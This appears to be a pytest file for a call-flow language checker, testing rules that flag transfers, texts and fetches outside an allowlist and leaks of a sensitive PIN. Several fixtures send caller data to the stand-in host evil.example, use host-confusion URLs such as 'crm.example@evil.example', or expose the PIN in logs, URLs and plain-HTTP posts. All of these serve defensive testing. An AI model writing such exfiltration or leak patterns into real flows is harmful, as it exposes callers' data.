"""FE6: what the project does not allow, and sensitive values that would be revealed."""

from __future__ import annotations

import pytest

from tests.compiler.projects import HANDLED, findings

TOML = """\
[vars]
desk = "+15551230000"
abroad = "+442079460000"
offices = { london = "+442079460000" }

[transfer]
allow = ["+1555*", "+1*", "sip:*@acme.example"]

[sms]
allow = ["+1555*"]

[http]
allow = ["crm.example", "*.acme.example", "localhost:8080"]
"""


def step(body: str) -> str:
    """A step that does this and goes on to the end."""
    return HANDLED.format("\n".join(f"    {line}" for line in body.split("\n")) + "\n    -> goodbye")


WRONG = {
    "a number": step('transfer «FE601:"+442079460000"»'),
    "one of a list": step('transfer ["+15551230000", «FE601:"+442079460000"»]'),
    "a premium number under a wide pattern": step('transfer «FE601:"+19005551234"»'),
    "an island under a wide pattern": step('transfer «FE601:"+18765551234"»'),
    "a SIP address elsewhere": step('transfer «FE601:"sip:ada@evil.example"»'),
    "a fixed beginning": step('transfer «FE601:"+44{{ call.from }}"»'),
    "a variable of the project": step("transfer «FE601:abroad»"),
    "a key of a variable of the project": step("transfer «FE601:offices.london»"),
    "a variable set before": step('set to = "+442079460000"\ntransfer «FE601:to»'),
    "one side of a conditional": step('transfer (desk if call.from == "a" else «FE601:abroad»)'),
    "a text": step('sms «FE602:"+442079460000"» "Hello."'),
    "a fetch": step('fetch _a «FE603:"https://evil.example/"»'),
    "a fetch with a template": step('fetch _a «FE603:"https://evil.example/{{ call.from }}"»'),
    "a fetch of a host that begins alike": step('fetch _a «FE603:"https://crm.example.evil.example/"»'),
    "a fetch with a user": step('fetch _a «FE603:"https://crm.example@evil.example/"»'),
    "a port that is not named": step('fetch _a «FE603:"http://localhost:9090/"»'),
    "a play": step('play «FE603:"https://evil.example/a.wav"»'),
    "music": step('conference "room" music=«FE603:"https://evil.example/a.wav"»'),
    "a redirect": 'flow reception\n\nstart:\n    say "Hello."\n    redirect «FE603:"https://evil.example/"»\n',
}

RIGHT = {
    "allowed numbers": step('transfer ["+15551230000", "+12125551234", "sip:ada@acme.example"]'),
    "a queue": step('transfer "queue:support"'),
    "a computed number": step('gather who digits=10:\n    say "Your number, please."\ntransfer "+1{{ who }}"'),
    "the other side": step('sms call.from "Thank you."'),
    "an allowed variable": step("transfer desk"),
    "allowed hosts": step(
        'fetch _a "https://crm.example/{{ call.from }}"\nfetch _b "https://a.acme.example?x={{ now }}"'
    ),
    "a port": step('fetch _a "http://localhost:8080/"'),
    "a computed host": step('fetch _a "https://{{ call.to }}.acme.example/"'),
}


@pytest.mark.parametrize("name", WRONG)
def test_finding_is_at_the_destination(name: str) -> None:
    found, expected = findings(WRONG[name], toml=TOML)
    assert found == expected


@pytest.mark.parametrize("name", RIGHT)
def test_what_is_allowed(name: str) -> None:
    assert findings(RIGHT[name], toml=TOML) == ([], [])


def test_without_a_configuration_nothing_is_allowed() -> None:
    found, expected = findings(step('transfer «FE601:"+15551230000"»\nsms «FE602:"+15551230000"» "Hello."'))
    assert found == expected


PIN = 'gather pin digits=4 sensitive=true:\n    say "Your PIN, please."\n'


def after_pin(body: str) -> str:
    """A flow that has taken a PIN, and then does this."""
    return step(PIN + body)


REVEALED = {
    "said": after_pin('say "You said {{ «FE604:pin» }}."'),
    "said digit by digit": after_pin('say "{{ «FE604:pin» | digits }}"'),
    "said among others": after_pin('say "{{ call.from }} {{ «FE604:pin» ~ 1 }}"'),
    "said in a branch of a text": after_pin('say "{% if true %}{{ «FE604:pin» }}{% endif %}"'),
    "said in a prompt of a menu": after_pin(
        'menu:\n    say "You said {{ «FE604:pin» }}. Press 1."\n    when 1 -> goodbye'
    ).replace("    -> goodbye\n\ngoodbye", "\ngoodbye"),
    "whispered": after_pin('transfer "+15551230000" whisper="{{ «FE604:pin» }}"'),
    "logged": after_pin('log "{{ «FE604:pin» }}"'),
    "texted": after_pin('sms call.from "{{ «FE604:pin» }}"'),
    "emitted": after_pin('emit "pin" data={"pin": «FE604:pin»}'),
    "in a URL": after_pin('fetch _a "https://crm.example/?pin={{ «FE604:pin» }}"'),
    "in json without encryption": after_pin('fetch _a "http://crm.example/" json={"pin": «FE604:pin»}'),
    "in a form without encryption": after_pin('fetch _a "http://crm.example/" form={"pin": «FE604:pin»}'),
    "through a set": after_pin('set code = "0" ~ pin\nlog "{{ «FE604:code» }}"'),
    "through a key": after_pin('set order = {"a": 1}\nset order.pin = pin\nlog "{{ «FE604:order».a }}"'),
    "through a conditional": after_pin('set code = pin if call.from == "a" else 0\nlog "{{ «FE604:code» }}"'),
    "in on hangup": """\
flow reception:
    on failed -> goodbye
    on hangup:
        if pin is defined:
            log "{{ «FE604:pin» }}"

start:
    gather pin digits=4 sensitive=true:
        say "Your PIN, please."
    if pin == "1234":
        say "Welcome."
    hangup

goodbye:
    hangup
""",
}

KEPT = {
    "compared": after_pin('if pin == "1234":\n    say "Welcome."'),
    "the outcome of a comparison": after_pin('set right = pin == "1234"\nsay "{{ right }}"'),
    "asked for with in": after_pin('if pin in ["1234", "4321"]:\n    say "Welcome."'),
    "in json over https": after_pin('fetch _a "https://crm.example/" method="POST" json={"pin": pin}'),
    "in a form over https": after_pin('fetch _a "https://crm.example/" method="POST" form={"pin": pin}'),
    "overwritten": after_pin('set pin = "gone"\nsay "{{ pin }}"'),
    "not sensitive": step('gather code digits=4:\n    say "Your code, please."\nsay "{{ code }}"'),
    "sensitive=false": step('gather code digits=4 sensitive=false:\n    say "Your code, please."\nsay "{{ code }}"'),
}


@pytest.mark.parametrize("name", REVEALED)
def test_finding_is_at_the_name(name: str) -> None:
    found, expected = findings(REVEALED[name], toml=TOML)
    assert found == expected


@pytest.mark.parametrize("name", KEPT)
def test_what_a_sensitive_value_may_do(name: str) -> None:
    assert findings(KEPT[name], toml=TOML) == ([], [])


ASK = """\
flow ask

start:
    gather pin digits=4 sensitive=true:
        say "Your PIN, please."
    return {}
"""

SAME = "flow same(value)\n\nstart:\n    return value\n"


def caller(body: str) -> str:
    return step("run ask() as pin\n" + body)


def test_a_flow_returns_a_secret() -> None:
    found, expected = findings(caller('log "{{ «FE604:pin» }}"'), ASK.format("pin"), toml=TOML)
    assert found == expected


def test_a_flow_returns_a_comparison() -> None:
    assert findings(caller('log "{{ pin }}"'), ASK.format('pin == "1234"'), toml=TOML) == ([], [])


def test_a_flow_is_given_a_secret() -> None:
    told = 'flow tell(value)\n\nstart:\n    log "{{ «FE604:value» }}"\n    return\n'
    found, expected = findings(caller("run tell(pin)"), ASK.format("pin"), told, toml=TOML)
    assert found == expected


def test_a_flow_is_given_a_secret_further_out() -> None:
    outer = "flow outer(value)\n\nstart:\n    run tell(value=value)\n    return\n"
    told = 'flow tell(value)\n\nstart:\n    log "{{ «FE604:value» }}"\n    return\n'
    found, expected = findings(caller("run outer(pin)"), ASK.format("pin"), outer, told, toml=TOML)
    assert found == expected


def test_a_helper_is_not_blamed_for_another_use() -> None:
    body = 'run same(pin) as again\nif again == "1":\n    say "One."\nrun same("open") as word\nsay "{{ word }}"'
    assert findings(caller(body), ASK.format("pin"), SAME, toml=TOML) == ([], [])


def test_a_helper_gives_back_the_secret() -> None:
    body = 'run same(pin) as again\nsay "{{ «FE604:again» }}"'
    found, expected = findings(caller(body), ASK.format("pin"), SAME, toml=TOML)
    assert found == expected
